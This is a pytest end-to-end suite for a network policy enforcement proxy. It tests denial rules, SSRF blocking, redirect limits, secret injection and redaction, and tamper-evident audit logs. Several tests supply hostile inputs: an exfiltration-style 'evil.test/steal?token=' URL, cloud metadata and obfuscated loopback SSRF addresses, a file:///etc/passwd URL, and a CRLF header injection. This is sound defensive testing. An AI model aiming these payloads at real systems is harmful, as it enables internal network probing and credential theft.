"""End-to-end: the real `pexi pep serve` against real HTTP/HTTPS origins on loopback."""
import base64
import json
import socket
import struct
import threading
from urllib.parse import quote
from pathlib import Path

import pytest

from conftest import recv_frame, run_pexi, send_frame, toml_list


def config(http_origin, https_origin, test_ca, extra="", allow_private=("127.0.0.1/32",)):
    return f"""
[policy]
allow = []

[[policy.rule]]
name = "origins"
hosts = ["origin.test", "*.origin.test"]
ports = [{http_origin.port}, {https_origin.port}]

[guardrails]
allow_private = {toml_list(allow_private)}
max_request_bytes = 100000
max_response_bytes = 200000
max_redirects = 3

[fetch]
extra_ca = ["{test_ca['ca']}"]
connect_timeout_ms = 3000
total_timeout_ms = 4000
idle_timeout_ms = 1500

[audit]
path = "audit.jsonl"
{extra}
"""


RESOLVE = ["--resolve", "origin.test=127.0.0.1", "--resolve", "a.origin.test=127.0.0.1",
           "--resolve", "private.origin.test=10.1.2.3"]


@pytest.fixture
def pep(start_pep, http_origin, https_origin, test_ca):
    return start_pep(config(http_origin, https_origin, test_ca), RESOLVE)


def body(answer):
    return base64.b64decode(answer["body_base64"])


def test_allowed_http_and_https_requests_return_the_seed_response_shape(pep, http_origin, https_origin):
    for url in (f"http://origin.test:{http_origin.port}/echo?x=1",
                f"https://a.origin.test:{https_origin.port}/echo?x=1"):
        answer = pep.request("POST", url, [["x-test", "1"], ["content-type", "text/plain"]], b"hello")
        assert list(answer) == ["status", "headers", "body_base64", "error"]
        assert answer["error"] is None and answer["status"] == 200
        echoed = json.loads(body(answer))
        assert echoed["method"] == "POST"
        assert base64.b64decode(echoed["body_b64"]) == b"hello"
        assert ["X-Test", "1"] in echoed["headers"] or ["x-test", "1"] in echoed["headers"]
    records = pep.records()
    assert [r["decision"] for r in records] == ["allow", "allow"]
    assert all(r["rule"] == "origins" and r["status"] == 200 and r["code"] is None for r in records)
    assert records[0]["front"] == "frame" and records[0]["req_bytes"] == 5


def test_denied_request_gets_the_seed_error_shape_and_one_audit_record(pep):
    answer = pep.request("GET", "https://evil.test/steal?token=abc")
    assert answer["status"] == 0 and answer["headers"] == [] and answer["body_base64"] is None
    assert answer["error"]["code"] == "denied_by_policy"
    assert "evil.test" in answer["error"]["message"]
    (record,) = pep.records()
    assert record["decision"] == "deny" and record["code"] == "denied_by_policy"
    assert record["url"] == "https://evil.test/steal?token=[REDACTED]"


def test_port_not_in_the_rule_is_denied(pep, http_origin):
    answer = pep.request("GET", f"http://origin.test:{http_origin.port + 1}/")
    assert answer["error"]["code"] == "denied_by_policy"


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:{http}/echo",            # literal outside a rule
    "http://private.origin.test:{http}/",      # allowed name resolving to 10.1.2.3
])
def test_private_targets_are_ssrf_blocked_or_denied(pep, http_origin, url):
    answer = pep.request("GET", url.format(http=http_origin.port))
    assert answer["error"]["code"] in ("ssrf_blocked", "denied_by_policy")
    if "private" in url:
        assert answer["error"]["code"] == "ssrf_blocked"


def test_metadata_and_loopback_literals_are_ssrf_blocked(pep):
    for url in ("http://169.254.169.254/latest/meta-data/", "http://[::ffff:7f00:2]/",
                "http://0x7f.0.0.2/", "http://2130706434/", "http://[fd00:ec2::254]/", "http://0/"):
        assert pep.request("GET", url)["error"]["code"] == "ssrf_blocked", url


def test_hostile_urls_are_invalid_url(pep, http_origin):
    for url in (f"http://origin.test:{http_origin.port}\\@evil.test/",
                f"http://user:pw@origin.test:{http_origin.port}/", "http://origin.test\t/",
                "file:///etc/passwd", "gopher://origin.test/", "http:/origin.test/", ""):
        assert pep.request("GET", url)["error"]["code"] == "invalid_url", url


def test_redirects_are_followed_and_every_hop_decided(pep, http_origin, https_origin):
    final = f"https://a.origin.test:{https_origin.port}/echo"
    hop = f"http://origin.test:{http_origin.port}/redirect?code=301&to={quote(final, safe='')}"
    answer = pep.request("GET", f"http://origin.test:{http_origin.port}/redirect?to={quote(hop, safe='')}")
    assert answer["error"] is None and answer["status"] == 200
    assert json.loads(body(answer))["path"] == "/echo"
    (record,) = pep.records()
    assert record["redirects"] == 2


def test_relative_redirect_is_resolved(pep, http_origin):
    answer = pep.request("GET", f"http://origin.test:{http_origin.port}/redirect?to=../status/201")
    assert answer["status"] == 201


@pytest.mark.parametrize("target", [
    "https://evil.test/",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.2:{http}/echo",
    "http://private.origin.test:{http}/",
    "http://[::1]:{http}/",
])
def test_redirect_to_denied_or_private_hosts_is_redirect_blocked(pep, http_origin, target):
    before = http_origin.hits
    to = target.format(http=http_origin.port)
    answer = pep.request("GET", f"http://origin.test:{http_origin.port}/redirect?code=307&to={to}")
    assert answer["error"]["code"] == "redirect_blocked", answer
    assert http_origin.hits == before + 1  # only the first hop reached an origin
    (record,) = pep.records()
    assert record["decision"] == "deny" and record["code"] == "redirect_blocked"


def test_redirect_loop_hits_the_cap(pep, http_origin):
    before = http_origin.hits
    answer = pep.request("GET", f"http://origin.test:{http_origin.port}/loop")
    assert answer["error"]["code"] == "constraint_violation"
    assert "redirects" in answer["error"]["message"]
    assert http_origin.hits == before + 4  # the request and max_redirects = 3 hops


def test_oversized_bodies_are_constraint_violations(pep, http_origin):
    url = f"http://origin.test:{http_origin.port}"
    assert pep.request("POST", url + "/echo", body=b"x" * 100001)["error"]["code"] == "constraint_violation"
    assert pep.request("POST", url + "/echo", body=b"x" * 100000)["error"] is None
    assert pep.request("GET", url + "/bytes/200000")["status"] == 200
    for route in ("/bytes/200001", "/chunked/1000000"):
        answer = pep.request("GET", url + route)
        assert answer["error"]["code"] == "constraint_violation", route
    records = pep.records()
    assert [r["code"] for r in records] == [
        "constraint_violation", None, None, "constraint_violation", "constraint_violation"]


def test_slow_hanging_and_dying_origins_fail_cleanly(pep, http_origin):
    url = f"http://origin.test:{http_origin.port}"
    for route in ("/slow/3?delay=2500", "/hang", "/die"):
        answer = pep.request("GET", url + route)
        assert answer["error"]["code"] == "http_error", (route, answer)
    records = pep.records()
    assert len(records) == 3 and all(r["decision"] == "allow" and r["code"] == "http_error" for r in records)


def test_unreachable_port_is_http_error(start_pep, http_origin, https_origin, test_ca):
    free = socket.socket()
    free.bind(("127.0.0.1", 0))
    port = free.getsockname()[1]
    free.close()
    text = config(http_origin, https_origin, test_ca).replace(
        f"ports = [{http_origin.port}, {https_origin.port}]", f"ports = [{port}]")
    pep = start_pep(text, RESOLVE)
    assert pep.request("GET", f"http://origin.test:{port}/")["error"]["code"] == "http_error"


def test_untrusted_certificate_is_http_error(start_pep, http_origin, https_origin, test_ca):
    text = config(http_origin, https_origin, test_ca).replace(f'extra_ca = ["{test_ca["ca"]}"]', "extra_ca = []")
    pep = start_pep(text, RESOLVE)
    answer = pep.request("GET", f"https://origin.test:{https_origin.port}/echo")
    assert answer["error"]["code"] == "http_error"


def test_concurrent_clients_each_get_their_own_answers_in_order(pep, http_origin):
    url = f"http://origin.test:{http_origin.port}/echo"
    errors = []

    def client(n):
        try:
            with pep.connect() as s:
                for i in range(10):
                    answer = pep.request("GET", f"{url}?c={n}&i={i}", sock=s)
                    assert json.loads(body(answer))["path"] == f"/echo?c={n}&i={i}"
        except Exception as e:  # noqa: BLE001 - collected and asserted below
            errors.append(e)

    threads = [threading.Thread(target=client, args=(n,)) for n in range(24)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors
    records = pep.records()
    assert len(records) == 240 and len({r["id"] for r in records}) == 240
    assert [r["seq"] for r in records] == list(range(1, 241))
    assert run_pexi("audit", "verify", str(pep.audit)).returncode == 0


def test_malformed_frames_get_invalid_request_or_a_clean_close(pep, http_origin):
    url = f"http://origin.test:{http_origin.port}/echo"
    cases = [b"not json", b"", b"[1,2]", b'{"method":"GET"}', b'{"method":"GET","url":"' + b"\xff" + b'"}',
             b'{"method":"GET","url":"http://a/","x":' + b"[" * 10000 + b"]" * 10000 + b"}",
             b'{"method":"GET","url":"http://a/","body_base64":"!!!!"}',
             b'{"method":"GET","url":"http://a/","headers":[["a\\r\\nb","c"]]}']
    with pep.connect() as s:
        for payload in cases:
            send_frame(s, payload)
            answer = recv_frame(s)
            assert answer["error"]["code"] == "invalid_request", payload[:40]
        assert pep.request("GET", url, sock=s)["status"] == 200  # the connection still works
    with pep.connect() as s:  # oversized length: answered, then closed
        s.sendall(struct.pack(">I", (16 << 20) + 1) + b"{}")
        assert recv_frame(s)["error"]["code"] == "invalid_request"
        assert recv_frame(s) is None
    with pep.connect() as s:  # truncated frame: closed
        s.sendall(struct.pack(">I", 100) + b'{"method"')
        s.shutdown(socket.SHUT_WR)
        assert recv_frame(s) is None
    assert pep.request("GET", url)["status"] == 200  # other connections unaffected
    assert len(pep.records()) == len(cases) + 1 + 1 + 1


def test_injected_secret_reaches_the_origin_but_not_the_sandbox_or_the_audit_log(
        start_pep, http_origin, https_origin, test_ca):
    secret = "sk-ant-api03-" + "Q" * 40
    extra_rule = f"""
[[policy.rule]]
name = "llm"
hosts = ["api.origin.test"]
ports = [{https_origin.port}]
methods = ["POST"]
[policy.rule.inject_headers]
"x-api-key" = {{ env = "PEXI_TEST_KEY" }}
"""
    # The llm rule goes first: api.origin.test also matches the broader "origins" rule, and the
    # first matching rule decides (and injects).
    text = config(http_origin, https_origin, test_ca).replace("[[policy.rule]]", extra_rule + "\n[[policy.rule]]", 1)
    pep = start_pep(text, RESOLVE + ["--resolve", "api.origin.test=127.0.0.1"], env={"PEXI_TEST_KEY": secret})
    answer = pep.request("POST", f"https://api.origin.test:{https_origin.port}/echo",
                         [["x-api-key", "placeholder"]], b"{}")
    assert answer["error"] is None
    raw = body(answer)
    assert secret.encode() not in raw and secret not in json.dumps(answer["headers"])
    echoed = json.loads(raw)
    assert ["x-api-key", "[REDACTED]"] in [[k.lower(), v] for k, v in echoed["headers"]]
    assert secret not in pep.audit.read_text()
    assert "placeholder" not in raw.decode()
    # Credentials are injected over https only: the same rule over http is refused.
    cleartext = pep.request("POST", f"http://api.origin.test:{https_origin.port}/echo", body=b"{}")
    assert cleartext["error"]["code"] == "denied_by_policy"
    assert "https" in cleartext["error"]["message"]
    # GET is not in the llm rule, so the broader rule decides: no key is injected.
    answer = pep.request("GET", f"https://api.origin.test:{https_origin.port}/echo", [["x-api-key", "placeholder"]])
    assert ["x-api-key", "placeholder"] in [[k.lower(), v] for k, v in json.loads(body(answer))["headers"]]
    records = pep.records()
    assert [r["rule"] for r in records] == ["llm", "llm", "origins"]
    assert records[0]["req_headers"] == [["x-api-key", "[REDACTED]"]]
    assert records[1]["decision"] == "deny" and records[1]["code"] == "denied_by_policy"


def test_audit_write_failure_fails_closed(start_pep, http_origin, https_origin, test_ca):
    pep = start_pep(config(http_origin, https_origin, test_ca), RESOLVE, env={"PEP_AUDIT_LOG": "/dev/full"})
    before = http_origin.hits
    for _ in range(5):
        answer = pep.request("POST", f"http://origin.test:{http_origin.port}/echo", body=b"side effect")
        assert answer["error"]["code"] == "audit_unavailable"
        assert answer["body_base64"] is None
    assert pep.request("GET", "https://evil.test/")["error"]["code"] == "audit_unavailable"
    # Only the request during which the log failed reached the origin; it is reported on stderr.
    assert http_origin.hits == before + 1
    pep.stop()
    assert "was performed upstream" in pep.stderr_path.read_text()


def test_audit_log_verifies_and_fails_after_any_edit(pep, http_origin, tmp_path):
    for i in range(5):
        pep.request("GET", f"http://origin.test:{http_origin.port}/echo?i={i}")
    pep.request("GET", "https://evil.test/")
    ok = run_pexi("audit", "verify", str(pep.audit))
    assert ok.returncode == 0, ok.stdout + ok.stderr
    lines = pep.audit.read_text().splitlines(keepends=True)
    edits = {  # name: (edit, first bad line)
        "changed status": (lambda ls: [ls[0], ls[1].replace('"status":200', '"status":201'), *ls[2:]], 2),
        "deny made allow": (lambda ls: [*ls[:5], ls[5].replace('"decision":"deny"', '"decision":"allow"')], 6),
        "deleted line": (lambda ls: [ls[0], *ls[2:]], 2),
        "swapped lines": (lambda ls: [ls[1], ls[0], *ls[2:]], 1),
        "truncated tail": (lambda ls: [*ls[:5], ls[5][:-20]], 6),
    }
    for name, (edit, bad_line) in edits.items():
        edited = tmp_path / f"edited-{name.replace(' ', '-')}.jsonl"
        edited.write_text("".join(edit(lines)))
        result = run_pexi("audit", "verify", str(edited))
        assert result.returncode == 1, name
        assert f"{edited}:{bad_line}:" in result.stdout, (name, result.stdout)


def test_seed_environment_variables(start_pep, tmp_path):
    pep = start_pep("", ["--resolve", "allowed.test=127.0.0.1"],
                    env={"PEP_ALLOWED_DOMAINS": "allowed.test, other.test", "PEP_MAX_REDIRECTS": "2",
                         "PEP_AUDIT_LOG": str(tmp_path / "seed-audit.jsonl")})
    denied = pep.request("GET", "https://denied.test/")
    assert denied["error"]["code"] == "denied_by_policy"
    allowed = pep.request("GET", "https://allowed.test/")  # allowed; 127.0.0.1 is then blocked
    assert allowed["error"]["code"] == "ssrf_blocked"
    records = [json.loads(l) for l in (tmp_path / "seed-audit.jsonl").read_text().splitlines()]
    assert [r["decision"] for r in records] == ["deny", "deny"]
    assert records[1]["rule"] == "allow[0]"
